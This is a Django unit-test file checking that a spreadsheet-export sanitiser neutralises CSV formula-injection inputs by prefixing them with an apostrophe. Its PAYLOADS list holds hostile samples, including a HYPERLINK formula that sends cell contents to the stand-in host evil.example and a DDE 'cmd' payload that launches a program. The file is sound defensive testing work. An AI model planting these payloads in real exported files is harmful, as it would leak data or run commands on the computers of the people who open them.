from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

from django.test import SimpleTestCase

from tautoko.lib.spreadsheet import FORMULA_TRIGGERS, cell_safe, row_safe

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+61 2 0000",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=cmd|' /C calc'!A0",
    "\r=1+1",
    "\n=1+1",
]


class SpreadsheetCellTests(SimpleTestCase):
    def test_it_defuses_every_formula_trigger(self) -> None:
        for payload in PAYLOADS:
            with self.subTest(payload=payload):
                assert cell_safe(payload) == "'" + payload

    def test_every_trigger_character_is_covered_by_a_payload(self) -> None:
        assert {payload[0] for payload in PAYLOADS} | {"\x00"} == set(FORMULA_TRIGGERS)

    def test_it_leaves_ordinary_text_alone(self) -> None:
        for text in ["Aroha Test", "Ngāti Whātua", "", "a=b", "O'Brien", "1+1", "x@y.nz"]:
            with self.subTest(text=text):
                assert cell_safe(text) == text

    def test_it_leaves_numbers_dates_and_none_alone(self) -> None:
        values = [-5, 0, 3.5, Decimal("-1.5"), True, None, dt.date(2015, 4, 23)]
        assert row_safe(values) == values

    def test_a_written_csv_has_no_cell_starting_with_a_trigger(self) -> None:
        buffer = io.StringIO()
        writer = csv.writer(buffer)
        for payload in PAYLOADS:
            writer.writerow(row_safe([payload, "plain", 42]))

        rows = list(csv.reader(io.StringIO(buffer.getvalue())))

        assert len(rows) == len(PAYLOADS)
        for row, payload in zip(rows, PAYLOADS, strict=True):
            assert row[0] == "'" + payload
            assert not row[0].startswith(FORMULA_TRIGGERS)
